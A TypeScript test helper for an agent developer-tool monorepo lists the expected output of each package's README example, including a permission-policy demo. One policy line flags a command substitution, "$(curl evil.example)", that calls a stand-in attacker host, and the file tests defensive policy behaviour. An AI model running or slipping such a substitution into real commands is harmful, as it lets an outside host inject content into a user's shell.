import { readFile } from "node:fs/promises";
import { findSandbox } from "@devtool/sandbox";

const sandbox = await findSandbox(
  "auto",
  { path: "" },
  AbortSignal.timeout(60_000),
);

/** The output of the code in the README of each package. */
export const SAYS: Readonly<Record<string, string>> = {
  schema: `run_shell_command PENDING true
{"tool_call_id":"call-1","status":"EXECUTING","tool_name":"run_shell_command","confirmation_request":{"options":[{"id":"proceed_once","name":"Allow once"}],"execute_details":{"command":"ls"}}}
`,
  client: "done\n",
  server: "Echo 0.3.0\n",
  console: "200 text/html; charset=utf-8\n",
  policy: `allow · builtin:reads-only
allow · policy.toml:2
deny · policy.toml:1 · pushing is for people
ask · the command "$(curl evil.example)" is expanded
ask · builtin:guarded-path · ".github/workflows/ci.yml" determines what programs or agents do later
`,
  sandbox: `${sandbox.name} 0 made\n`,
  "coding-agent": "devtool 0.3.0\n",
  gemini: "gemini-pro-latest answers\n",
  mcp: "/mcp list and /mcp refresh\n",
  conformance: "a2a/card passed\na2a/card-cached passed\n",
};

/** The code in the README of a package. */
export async function snippetOf(name: string): Promise<string> {
  const text = await readFile(
    new URL(`../../packages/${name}/README.md`, import.meta.url),
    "utf8",
  );
  return /```ts\n([\s\S]*?)```/.exec(text)?.[1] ?? "";
}
